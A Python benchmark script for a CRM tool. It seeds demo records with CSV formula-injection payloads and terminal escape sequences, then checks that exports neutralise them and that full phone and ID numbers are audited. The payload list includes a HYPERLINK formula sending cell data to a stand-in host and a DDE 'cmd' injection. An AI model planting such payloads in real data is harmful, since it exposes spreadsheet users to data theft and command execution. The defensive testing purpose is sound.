"""Safe outputs on the demo: formula cells in every export and list (target 0) and full
personal values shown without an audit entry (target 0).

    python bench/safe_outputs.py [--households 1000] [--postgres URL] [--source DIR]

Builds the demo (`crm demo`), then plants what a salesperson or a legacy import can put into
the data: formulas (=HYPERLINK(…), +cmd|…, -2+3, @SUM(…)) in household names and notes and in
service summaries, and control characters (ESC sequences, BEL, and NUL on SQLite) in names.
Runs, through the real CLI as a manager who sees personal data in full, every command that
writes a CSV or XLSX file or `--format csv` on stdout, and counts

- formula cells: text cells starting with = + - @ tab or CR (a plain negative number is none),
  and XLSX cells stored as formulas; a command that fails (openpyxl's IllegalCharacterError)
  is counted apart;
- full values without an entry: members whose full phone or ID number an output shows, less
  the members the command's audit entries say were shown in full — for complete outputs, for
  `crm export members | head -3` (the reader goes away) and on a read-only connection (SQLite
  `mode=ro`, PostgreSQL `default_transaction_read_only=on`).

`--source DIR` runs the CLI from another checkout (for the figures before a change).
"""

from __future__ import annotations

import argparse
import csv
import io
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import support
from sqlalchemy import create_engine, func, select, update
from sqlalchemy.engine import make_url

NOW = "2026-12-02 10:00"
MONTH = "2026-12"
MANAGER = "王经理:manager"
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&F2,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FULL_VALUE = re.compile(r"(?<!\d)(1[3-9]\d{9}|\d{17}[\dXx])(?!\d)")


class Cli:
    def __init__(self, url: str, source: str | None, home: str):
        self.url = url
        self.env = dict(os.environ, CRM_HOME=home)
        if source:
            self.env["PYTHONPATH"] = source

    def __call__(self, *args: str, user: str = MANAGER, url: str | None = None, shell_tail=""):
        command = [sys.executable, "-c", "from crm.cli import cli; cli()"]
        command += ["--db", url or self.url, "--as", user, *args]
        if shell_tail:  # a real pipe, as a user types it
            line = " ".join(_quote(part) for part in command) + " " + shell_tail
            return subprocess.run(
                line, shell=True, env=self.env, capture_output=True, text=True, check=False
            )
        return subprocess.run(command, env=self.env, capture_output=True, text=True, check=False)


def _quote(part: str) -> str:
    import shlex

    return shlex.quote(part)


def plant(url: str, sqlite: bool) -> int:
    """Formulas and control characters in a share of the households, as a legacy import or a
    salesperson's edits leave them; returns how many fields were planted."""
    from crm.core.models import Household, ServiceRecord

    engine = create_engine(url)
    planted = 0
    with engine.begin() as conn:
        ids = conn.scalars(select(Household.id).order_by(Household.id)).all()
        for n, household_id in enumerate(ids[::7]):
            payload = PAYLOADS[n % len(PAYLOADS)]
            conn.execute(
                update(Household)
                .where(Household.id == household_id)
                .values(name=payload, note=payload)
            )
            planted += 2
        for household_id in ids[3::50]:
            nul = "\x00" if sqlite else ""
            name = f"张\x1b[2J\x1b]0;owned\x07伟{nul}"
            conn.execute(update(Household).where(Household.id == household_id).values(name=name))
            planted += 1
        records = conn.scalars(select(ServiceRecord.id).order_by(ServiceRecord.id)).all()
        for n, record_id in enumerate(records[::20]):
            conn.execute(
                update(ServiceRecord)
                .where(ServiceRecord.id == record_id)
                .values(summary=PAYLOADS[n % len(PAYLOADS)])
            )
            planted += 1
    engine.dispose()
    return planted


def formula_cells(rows) -> int:
    return sum(
        1
        for row in rows
        for cell in row
        if isinstance(cell, str)
        and cell.startswith(TRIGGERS)
        and not re.fullmatch(r"-\d+(\.\d+)?", cell)
    )


def read_xlsx(path: Path) -> tuple[list[list], int]:
    import openpyxl

    sheet = openpyxl.load_workbook(path).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    formulas = sum(1 for row in sheet.iter_rows() for cell in row if cell.data_type == "f")
    return rows, formulas


class Ledger:
    """Which member each full phone or ID number belongs to, and the audit entries so far."""

    def __init__(self, url: str):
        from crm.core.app import App
        from crm.core.models import Member
        from crm.core.security import User
        from crm.plugins import BUILTIN_PLUGINS

        self.app = App(url, user=User("bench", "admin"), builtins=BUILTIN_PLUGINS)
        self.owner: dict[str, int] = {}
        with self.app.session() as session:
            vault = session.info["vault"]
            for member in session.scalars(select(Member)):
                for sealed in (member.phone_enc, member.alt_phone_enc, member.id_number_enc):
                    value = vault.decrypt(sealed)
                    if value:
                        self.owner[value] = member.id

    def last_entry(self) -> int:
        from crm.core.models import AuditEntry

        with self.app.session() as session:
            return session.scalar(select(func.coalesce(func.max(AuditEntry.id), 0)))

    def audited_since(self, entry_id: int) -> int:
        """Members the entries after `entry_id` say were shown in full (the largest count)."""
        from crm.core.models import AuditEntry

        with self.app.session() as session:
            details = session.scalars(
                select(AuditEntry.detail).where(
                    AuditEntry.id > entry_id,
                    AuditEntry.action.in_(("view_personal", "export")),
                )
            ).all()
        counts = [
            int(found)
            for detail in details
            for found in re.findall(r"(?:完整显示|含完整个人信息) (\d+) 人", detail or "")
        ]
        return max(counts, default=0)

    def shown(self, output: str) -> int:
        return len({self.owner[v] for v in FULL_VALUE.findall(output) if v in self.owner})


def run_backend(label: str, url: str, households: int, source: str | None) -> dict:
    sqlite = url.startswith("sqlite")
    home = tempfile.mkdtemp()
    out = Path(home) / "out"
    out.mkdir()
    cli = Cli(url, source, home)
    result = cli("demo", "--households", str(households), "--now", NOW, user="bench:admin")
    assert result.returncode == 0, result.stderr
    planted = plant(url, sqlite)
    admin = "bench:admin"
    cli("campaign", "create", "W1", "--name", "冬季", "--kind", "一路同行", "--channel", "电话",
        "--template", "{家庭}您好", user=admin)  # fmt: skip
    cli("campaign", "run", "W1", user=admin)
    cli("campaign", "plan-touchpoints", user=admin)
    ledger = Ledger(url)

    commands: list[tuple[str, list[str], Path | None]] = []
    for kind in ("households", "members", "purchases", "service"):
        for suffix in ("csv", "xlsx"):
            path = out / f"{kind}.{suffix}"
            commands.append(
                (f"export {kind} -o .{suffix}", ["export", kind, "-o", str(path)], path)
            )
        commands.append((f"export {kind} (stdout)", ["export", kind], None))
    for suffix in ("csv", "xlsx"):
        path = out / f"revisit.{suffix}"
        commands.append((f"revisit due -o .{suffix}", ["revisit", "due", "--month", MONTH,
                                                       "-o", str(path)], path))  # fmt: skip
        path = out / f"contacts.{suffix}"
        commands.append((f"campaign contacts -o .{suffix}", ["campaign", "contacts", "1",
                                                             "-o", str(path)], path))  # fmt: skip
    for args in (
        ["household", "list", "--limit", "100000"],
        ["revisit", "due", "--month", MONTH],
        ["campaign", "contacts", "1"],
        ["campaign", "touchpoints", "--due-within", "60"],
        ["audit", "list", "--limit", "1000"],
    ):
        commands.append((" ".join(args[:2]) + " --format csv", [*args, "--format", "csv"], None))

    figures = {"formula": 0, "failed": 0, "unaudited": 0, "shown": 0}
    print(f"\n{label}: demo of {households:,} households, {planted} planted fields")
    print(f"  {'output':<34} {'formula':>8} {'shown':>7} {'unaudited':>9}")
    for name, args, path in commands:
        before = ledger.last_entry()
        result = cli(*args)
        if result.returncode != 0:
            figures["failed"] += 1
            print(f"  {name:<34} failed: {result.stderr.strip()[:90]}")
            continue
        if path is None:
            rows, formulas, content = list(csv.reader(io.StringIO(result.stdout))), 0, result.stdout
        elif path.suffix == ".xlsx":
            rows, formulas = read_xlsx(path)
            content = "\n".join(",".join(str(c) for c in row if c is not None) for row in rows)
        else:
            content = path.read_text("utf-8-sig")
            rows, formulas = list(csv.reader(io.StringIO(content))), 0
        count = formula_cells(rows) + formulas
        shown = ledger.shown(content)
        unaudited = max(0, shown - ledger.audited_since(before))
        figures["formula"] += count
        figures["shown"] += shown
        figures["unaudited"] += unaudited
        print(f"  {name:<34} {count:>8} {shown:>7} {unaudited:>9}")

    # Cut short and read-only: what reached the reader, against what is on record.
    read_only = (
        f"sqlite:///file:{make_url(url).database}?mode=ro&uri=true"
        if sqlite
        else make_url(url)
        .update_query_dict(
            {
                "options": make_url(url).query.get("options", "")
                + " -cdefault_transaction_read_only=on"
            }
        )
        .render_as_string(hide_password=False)
    )
    cases = [
        ("export members | head -3", {"shell_tail": "| head -3"}),
        ("export members (read-only)", {"url": read_only}),
    ]
    for name, options in cases:
        before = ledger.last_entry()
        os.chdir(home)  # a file: URI must not be taken for a folder to create
        result = cli("export", "members", **options)
        shown = ledger.shown(result.stdout)
        unaudited = max(0, shown - ledger.audited_since(before))
        figures["shown"] += shown
        figures["unaudited"] += unaudited
        said = result.stderr.strip().splitlines()[-1][:60] if result.stderr.strip() else ""
        print(f"  {name:<34} {'':>8} {shown:>7} {unaudited:>9}  {said}")
    for args in (["household", "show", "H000001"], ["revisit", "due", "--month", MONTH]):
        before = ledger.last_entry()
        result = cli(*args, url=read_only)
        shown = ledger.shown(result.stdout)
        unaudited = max(0, shown - ledger.audited_since(before))
        figures["shown"] += shown
        figures["unaudited"] += unaudited
        name = " ".join(args[:2]) + " (read-only)"
        print(f"  {name:<34} {'':>8} {shown:>7} {unaudited:>9}")
    ledger.app.dispose()
    print(
        f"  total: formula cells {figures['formula']} (target 0), failed outputs "
        f"{figures['failed']}, full values shown {figures['shown']}, of them without an audit "
        f"entry {figures['unaudited']} (target 0)"
    )
    return figures


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--households", type=int, default=1000)
    parser.add_argument("--postgres", default=os.environ.get("CRM_TEST_DATABASE_URL"))
    parser.add_argument("--source", help="a checkout whose crm package to run")
    args = parser.parse_args()
    support.benchmark_key()
    support.run_on_each(
        lambda label, url: run_backend(label, url, args.households, args.source),
        "safe.db",
        args.postgres,
    )


if __name__ == "__main__":
    main()
